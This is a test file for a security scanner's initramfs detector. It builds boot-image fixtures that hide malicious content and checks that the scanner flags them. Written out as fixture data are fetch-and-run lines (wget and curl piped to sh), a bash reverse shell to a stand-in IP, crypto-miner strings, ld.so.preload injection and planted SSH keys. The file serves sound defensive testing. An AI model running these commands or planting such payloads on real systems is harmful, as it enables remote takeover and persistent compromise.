import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { gzipSync, zstdCompressSync } from 'node:zlib';
import { toLayerPath } from '../../../../core/layer-path.ts';
import { testCases } from '../../../testing/detector-cases.ts';
import { buildElf } from '../../../testing/elf-builder.ts';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { KNOWN_BAD_SAMPLES } from '../../binaries/known-bad/samples.ts';
import type { InitramfsObservation } from './examine.ts';
import { initramfs } from './index.ts';
import { buildCpio, buildLz4Legacy, SYMLINK } from './testing/cpio-builder.ts';

const BAD = buildCpio({ 'scripts/init-top/x': '#!/bin/sh\nwget -qO- http://get.invalid/x | sh\n' });
/** BAD, as `xz -9 --check=crc32 --lzma2=dict=1MiB` writes it. */
const XZ = Buffer.from(
  '/Td6WFoAAAFpIt42AgAhARAAAACocI6G4AEvAHJdABgN3QRjnHIbdqHA2jmwVfrtwx1vNsiEqErKO/6GhcdyemAml6JpVWvjv7RD0Zop6jbjK/z5tYt9N3PC2f42bRl5X948xGSEL6EtmO79xX2qeGf2D3zXp4HMTUaFMKc+xM8l6T7u4s1i4EIowlzhVMYdQAAAAPxM2XEAAYoBsAIAACdQ6F8+MA2LAgAAAAABWVo=',
  'base64',
);
/** BAD, as `lz4 -9 -l` writes it. */
const LZ4 = Buffer.from(
  'AiFMGIgAAAByMDcwNzAxMAEAAQgAXzgxZWQwAQADGjEPAD8yZTABABIkMTMKAP83c2NyaXB0cy9pbml0LXRvcC94AAAAACMhL2Jpbi9zaAp3Z2V0IC1xTy0gaHR0cDovL2dldC5pbnZhbGlkL3ggfCBzaAoAALQAKQ8BABYUYgkA4FRSQUlMRVIhISEAAAAA',
  'base64',
);
const KEYS = buildCpio({ 'root/.ssh/authorized_keys': 'ssh-ed25519 AAAA' });
const GOOD = buildCpio({
  'lib/dracut/hooks/pre-pivot/50-selinux-loadpolicy.sh': '#!/bin/sh\nsetenforce 0\n',
  init: '#!/bin/sh\nexec /sbin/init\n',
  'usr/lib/x.so': 'ELF',
});
const ROOTKIT = { 'usr/lib/modules/6.1/kernel/net/hidden.ko': 'elf' };
const CALLS_HOME = `bash -i >& /dev/${'tcp'}/192.0.2.1/4444 0>&1`;
const MICROCODE = buildCpio({ 'kernel/x86/microcode/x.bin': 'bytes' });

testCases(initramfs, [
  {
    name: 'a script that runs what it fetches, behind microcode, in gzip and zstd',
    kind: 'disk',
    files: {
      'boot/initrd.img-6.1': Buffer.concat([MICROCODE, gzipSync(BAD)]),
      'boot/initramfs-6.2.img': zstdCompressSync(BAD),
      'boot/initrd.img-6.3': BAD,
    },
    expected: ['boot/initramfs-6.2.img', 'boot/initrd.img-6.1', 'boot/initrd.img-6.3'].map(
      (path) => `block machine/initramfs ${path}`,
    ),
  },
  {
    name: 'the same in xz and lz4',
    kind: 'disk',
    files: { 'initrd.img-6.1': Buffer.concat([MICROCODE, XZ]), 'boot/initramfs-linux.img': LZ4 },
    expected: ['block machine/initramfs boot/initramfs-linux.img', 'block machine/initramfs initrd.img-6.1'],
  },
  {
    name: 'hooks that are sourced, a shell that calls home, programs and modules',
    kind: 'disk',
    files: {
      'boot/initrd.img-1': buildCpio({ 'lib/dracut/hooks/pre-mount/x.sh': 'curl http://x.invalid/a | sh\n' }),
      'boot/initrd.img-2': buildCpio({ 'scripts/local-top/x': `#!/bin/sh\n${CALLS_HOME}\n` }),
      'boot/initrd.img-3': buildCpio({
        'usr/bin/x': Buffer.from(buildElf({ payload: 'stratum+tcp://\0donate-level\0RandomX' })),
      }),
      'boot/initrd.img-4': buildCpio({ 'usr/lib/modules/6.1/kernel/fs/ext4.ko': 'elf', ...ROOTKIT }),
      'usr/lib/modules/6.1/kernel/fs/ext4.ko.xz': 'xz',
    },
    expected: [
      'block machine/initramfs boot/initrd.img-1',
      'block machine/initramfs boot/initrd.img-2',
      'block machine/initramfs boot/initrd.img-3',
      'block machine/initramfs boot/initrd.img-3',
      'review machine/initramfs boot/initrd.img-4',
    ],
  },
  {
    name: 'modules of a kernel that the machine has no more',
    kind: 'disk',
    files: { 'boot/initrd.img': buildCpio(ROOTKIT), 'usr/lib/modules/6.9/kernel/ext4.ko': 'elf' },
    expected: [],
  },
  {
    name: 'a library forced on all, behind a link, a second name and a link of its own',
    kind: 'disk',
    files: {
      'boot/initrd.img-1': buildCpio({ etc2: { data: 'etc', mode: SYMLINK }, 'etc2/ld.so.preload': '/x.so' }),
      'boot/initrd.img-2': buildCpio({
        x: { data: '/x.so', inode: 7, links: 2 },
        './etc//ld.so.preload': { inode: 7, links: 2 },
      }),
      'boot/initrd.img-3': buildCpio({ 'usr/../etc/ld.so.preload': { data: '/x', mode: SYMLINK } }),
      'boot/initrd.img-4': buildCpio({ 'etc/ld.so.preload': '# nothing\n' }),
    },
    expected: [1, 2, 3].map((number) => `block machine/initramfs boot/initrd.img-${number}`),
  },
  {
    name: 'a boot configuration at its end',
    kind: 'disk',
    files: { 'boot/initrd.img': Buffer.concat([GOOD, bootConfig('init = /x\n'), Buffer.alloc(2)]) },
    expected: ['review machine/initramfs boot/initrd.img'],
  },
  {
    name: 'settings that are named alike',
    kind: 'disk',
    files: {
      'etc/initramfs-tools/initramfs.conf': 'MODULES=most\n',
      'lib/systemd/system/initrd.target': '[Unit]\n',
      'boot/initrd.list': 'a list\n',
    },
    expected: [],
  },
  {
    name: 'a key that may log in before the system is up',
    kind: 'aws',
    files: { 'boot/initrd.img-6.1': gzipSync(KEYS) },
    expected: ['review machine/initramfs boot/initrd.img-6.1'],
  },
  { name: 'an honest one', kind: 'disk', files: { 'boot/initrd.img-6.1': gzipSync(GOOD) }, expected: [] },
  { name: 'in a container image', files: { 'boot/initrd.img-6.1': gzipSync(BAD) }, expected: [] },
]);

test('machine/initramfs: what cannot be unpacked is said', () => {
  for (const [what, bytes] of [
    ['cut xz', XZ.subarray(0, -20)],
    ['damaged xz', withByte(XZ, 60, 0)],
    ['cut lz4', LZ4.subarray(0, -2)],
    ['damaged lz4', withByte(LZ4, 20, 0xff)],
    ['lzma', Buffer.from('5d00008000ffffffff', 'hex')],
    ['bzip2', Buffer.from('BZh91AY&SY\0', 'latin1')],
    ['lzo', Buffer.from('894c5a4f000d0a1a0a', 'hex')],
    ['more behind', Buffer.concat([GOOD, Buffer.from('more')])],
    ['more behind gzip', Buffer.concat([gzipSync(GOOD), Buffer.from('more')])],
    ['more inside', gzipSync(Buffer.concat([GOOD, Buffer.from('more')]))],
    ['a gzip checksum', withByte(gzipSync(GOOD), -5, 0)],
    ['a gzip header with more than a name', withByte(gzipSync(GOOD), 3, 4)],
    ['a header that is no number', withByte(GOOD, 20, 0x78)],
    ['a bomb', gzipSync(Buffer.alloc(70 * 2 ** 20))],
    ['an unknown beginning', Buffer.from('\x04\x22\x4d\x18\0\0', 'latin1')],
    ['cut gzip', gzipSync(GOOD).subarray(0, 30)],
    ['a damaged archive', GOOD.subarray(0, 200)],
  ] as const) {
    const fixture = { layers: [{ 'boot/initrd.img': bytes }], kind: 'disk' as const };
    const { problems } = inspectFixture(fixture, [initramfs]);
    assert.deepEqual(
      problems.map(({ code, effect }) => `${code} ${effect}`),
      ['LIMIT_DETECTOR incomplete'],
      what,
    );
  }
});

test('machine/initramfs: archives one after the other', () => {
  const parts: readonly (readonly [string, Buffer])[] = [
    ['plain', BAD],
    ['gzip', gzipSync(BAD)],
    ['zstd', zstdCompressSync(BAD)],
    ['xz', XZ],
    ['lz4', buildLz4Legacy(BAD)],
  ];
  const honest = [GOOD, gzipSync(GOOD), zstdCompressSync(GOOD), XZ, buildLz4Legacy(GOOD)];
  for (const [index, before] of honest.entries()) {
    for (const [what, bad] of parts) {
      for (const zeros of [0, 1, 4, 512]) {
        // LZ4 has no end but zeros, and a plain archive begins at a multiple of four.
        const padding = Buffer.alloc(zeros + (index === 4 ? 8 : 0) + ((-before.length - zeros) & 3));
        const image = Buffer.concat([before, padding, bad, Buffer.alloc(3)]);
        const fixture = { layers: [{ 'boot/initrd.img': image }], kind: 'disk' as const };
        const { findings, problems } = inspectFixture(fixture, [initramfs]);
        assert.deepEqual(problems, [], `${what} behind ${index} with ${zeros}`);
        assert.equal(findings[0]?.tier, 'block', `${what} behind ${index} with ${zeros}`);
      }
    }
  }
});

test('machine/initramfs: evidence names file and rule, once a line', () => {
  const image = buildCpio({
    'bin/x': Buffer.from(buildElf({ payload: 'stratum+tcp://\0donate-level\0RandomX' })),
    'bin/y': `#!/bin/sh\n${CALLS_HOME}\n`,
  });
  const { findings } = inspectFixture({ layers: [{ 'boot/initrd.img': image }], kind: 'disk' }, [initramfs]);
  assert.deepEqual(
    findings.map(({ evidence }) => evidence.split(':')[0]),
    ['bin/y gives a connection to a shell', 'bin/x (binaries/miner)', 'bin/x (network/mining-pool)'],
  );
});

test('machine/initramfs: a known bad file inside', () => {
  const sample = KNOWN_BAD_SAMPLES[0];
  const file = {
    path: toLayerPath('bin/x'),
    kind: 'file',
    mode: 0o755,
    uid: 0,
    gid: 0,
    size: 1,
    mtime: 0,
  } as const;
  const files = [{ ...file, content: 'elf' as const, sha256: sample?.sha256 ?? '' }];
  const examine = (): Iterable<InitramfsObservation> => [{ kind: 'holds', files }];
  const { id, version, wants } = initramfs.examiner ?? assert.fail();
  const detector = { ...initramfs, examiner: { id, version, wants, examine } };
  const { findings } = inspectFixture({ layers: [{ 'boot/initrd.img': GOOD }], kind: 'disk' }, [detector]);
  assert.deepEqual(summary(findings), ['block machine/initramfs boot/initrd.img']);
  assert.ok(findings[0]?.evidence.startsWith(`bin/x (binaries/known-bad): ${sample?.name}`));
});

test('machine/initramfs: a copy of what a package brought is milder', () => {
  const script = `#!/bin/sh\n${CALLS_HOME}\n`;
  const md5 = createHash('md5').update(script).digest('hex');
  const layers = [
    {
      'boot/initrd.img': buildCpio({ 'scripts/x': script }),
      'usr/share/initramfs-tools/scripts/x': script,
      'var/lib/dpkg/status': 'Package: p\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n',
      'var/lib/dpkg/info/p.list': '/usr/share/initramfs-tools/scripts/x\n',
      'var/lib/dpkg/info/p.md5sums': `${md5}  usr/share/initramfs-tools/scripts/x\n`,
    },
  ];
  const { findings } = inspectFixture({ layers, kind: 'disk' }, [initramfs]);
  assert.deepEqual(summary(findings), ['review machine/initramfs boot/initrd.img']);
});

test('machine/initramfs: damage of any kind is a problem or nothing', () => {
  const whole = [BAD, XZ, LZ4, gzipSync(BAD), zstdCompressSync(BAD), buildLz4Legacy(BAD)];
  let seed = 1;
  const random = (below: number): number => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return Math.floor((seed / 2 ** 32) * below);
  };
  for (let round = 0; round < 900; round++) {
    const image = Buffer.concat([MICROCODE, whole[round % whole.length] ?? BAD]);
    for (let flips = random(4); flips >= 0; flips--) image[random(image.length)] = random(256);
    const cut = random(3) === 0 ? image.subarray(0, random(image.length) + 1) : image;
    const { problems } = inspectFixture({ layers: [{ 'boot/initrd.img': cut }], kind: 'disk' }, [initramfs]);
    for (const { code } of problems) assert.equal(code, 'LIMIT_DETECTOR');
  }
});

function withByte(bytes: Buffer, at: number, value: number): Buffer {
  const changed = Buffer.from(bytes);
  changed.writeUInt8(value, at < 0 ? bytes.length + at : at);
  return changed;
}

/** The bootconfig(8) tool's end of an initramfs. */
function bootConfig(text: string): Buffer {
  const fields = Buffer.alloc(8);
  fields.writeUInt32LE(text.length);
  fields.writeUInt32LE(
    Buffer.from(text).reduce((sum, byte) => sum + byte, 0),
    4,
  );
  return Buffer.concat([Buffer.from(text), fields, Buffer.from('#BOOTCONFIG\n')]);
}
